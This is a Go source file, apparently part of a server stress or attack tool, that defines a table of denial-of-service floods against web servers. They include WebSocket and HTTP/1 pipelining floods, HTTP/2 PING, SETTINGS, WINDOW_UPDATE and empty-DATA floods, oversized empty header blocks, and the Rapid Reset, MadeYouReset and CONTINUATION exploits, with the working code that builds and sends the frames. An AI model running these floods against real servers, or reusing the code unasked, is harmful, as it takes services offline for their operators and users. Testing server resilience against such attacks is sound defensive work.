package attack

import (
	"context"
	"io"
	"net"
)

// floods cost processor time by what they send without pause.
var floods = []attack{
	{
		name: "ws-pings", attackers: 8,
		about: "WebSocket Pings without pause; Pongs are read (RFC 6455 section 5.5.2)",
		run: func(ctx context.Context, a *attacker) error {
			c, err := openWS(ctx, a.addr[plain])
			if err != nil {
				return err
			}
			defer c.Close()
			discard(c)
			return send(c, repeat(header(9, true, 0), 1000), 1000, a)
		},
	},
	{
		name: "pipelining", attackers: 8,
		about: "requests of HTTP/1 without pause; responses are read (RFC 9112 section 9.3.2)",
		run: func(ctx context.Context, a *attacker) error {
			c, err := dial(ctx, a.addr[plain])
			if err != nil {
				return err
			}
			defer c.Close()
			discard(c)
			return send(c, repeat([]byte("GET / HTTP/1.1\r\nHost: target\r\n\r\n"), 1000), 1000, a)
		},
	},
	{
		name: "h2-empty-fields", attackers: 8,
		about: "header blocks of 4,000 fields without name and value, 12 KB each (RFC 9113 section 8.2.1)",
		run:   blocks(repeat([]byte{0, 0, 0}, 4000)),
	},
	{
		name: "h2-empty-indexed", attackers: 8,
		about: "the same with 8,000 fields that go to the table, 24 KB each (RFC 7541 section 6.2.1)",
		run:   blocks(repeat([]byte{0x40, 0, 0}, 8000)),
	},
	{
		name: "h2-rapid-reset", attackers: 2,
		about: "requests that are reset at once (CVE-2023-44487)",
		run: streams(200, func(b []byte, id uint32) []byte {
			b = frame(b, typeHeaders, endHeaders|endStream, id, get("/"))
			return frame(b, typeReset, 0, id, []byte{0, 0, 0, 8})
		}),
	},
	{
		name: "h2-made-you-reset", attackers: 2,
		about: "requests whose window is moved by zero, so that the server resets them (CVE-2025-8671)",
		run: streams(200, func(b []byte, id uint32) []byte {
			b = frame(b, typeHeaders, endHeaders|endStream, id, get("/"))
			return frame(b, typeWindow, 0, id, []byte{0, 0, 0, 0})
		}),
	},
	{
		name: "h2-pings", attackers: 2,
		about: "PING frames without pause (RFC 9113 section 6.7)",
		run:   frames(frame(nil, typePing, 0, 0, make([]byte, 8))),
	},
	{
		name: "h2-settings", attackers: 2,
		about: "SETTINGS frames without pause (RFC 9113 section 6.5)",
		run:   frames(frame(nil, typeSettings, 0, 0, nil)),
	},
	{
		name: "h2-window", attackers: 2,
		about: "WINDOW_UPDATE frames of one byte for the connection (RFC 9113 section 6.9)",
		run:   frames(frame(nil, typeWindow, 0, 0, []byte{0, 0, 0, 1})),
	},
	{
		name: "h2-empty-data", attackers: 2,
		about: "empty DATA frames on a request that does not end (RFC 9113 section 10.5)",
		run: func(ctx context.Context, a *attacker) error {
			return flood(ctx, a, frame(nil, typeHeaders, endHeaders, 1, get("/upload")), frame(nil, typeData, 0, 1, nil))
		},
	},
	{
		name: "h2-continuation", attackers: 2,
		about: "a header block that never ends, in empty CONTINUATION frames (CVE-2024-27316)",
		run: func(ctx context.Context, a *attacker) error {
			return flood(ctx, a, frame(nil, typeHeaders, 0, 1, get("/")), frame(nil, typeContinuation, 0, 1, nil))
		},
	},
}

// frames sends one frame again and again.
func frames(f []byte) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error { return flood(ctx, a, nil, f) }
}

func flood(ctx context.Context, a *attacker, first, then []byte) error {
	c, err := openH2(ctx, a.addr[plain])
	if err != nil {
		return err
	}
	defer c.Close()
	discard(c)
	if _, err := c.Write(first); err != nil {
		return err
	}
	return send(c, repeat(then, 500), 500, a)
}

// streams sends what make appends for one stream after another, batch of them at a time.
func streams(batch int, make func(b []byte, id uint32) []byte) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		c, err := openH2(ctx, a.addr[plain])
		if err != nil {
			return err
		}
		defer c.Close()
		discard(c)
		var b []byte
		for id := uint32(1); id < 1<<30; {
			b = b[:0]
			for range batch {
				b = make(b, id)
				id += 2
			}
			if _, err := c.Write(b); err != nil {
				return err
			}
			a.sent.Add(int64(batch))
		}
		return nil
	}
}

// blocks sends header blocks that are no requests, each on a stream of its own.
func blocks(fields []byte) func(context.Context, *attacker) error {
	return streams(1, func(b []byte, id uint32) []byte {
		kind, rest := byte(typeHeaders), fields
		for len(rest) > 16<<10 {
			b = frame(b, kind, 0, id, rest[:16<<10])
			kind, rest = typeContinuation, rest[16<<10:]
		}
		flags := byte(endHeaders)
		if kind == typeHeaders {
			flags |= endStream
		}
		return frame(b, kind, flags, id, rest)
	})
}

// unread makes it improbable that the kernel accepts much for a client that reads nothing.
func unread(c net.Conn) {
	if t, ok := c.(*net.TCPConn); ok {
		t.SetReadBuffer(4 << 10)
	}
}

// drain reads until the other side ends.
func drain(c net.Conn) { io.Copy(io.Discard, c) }
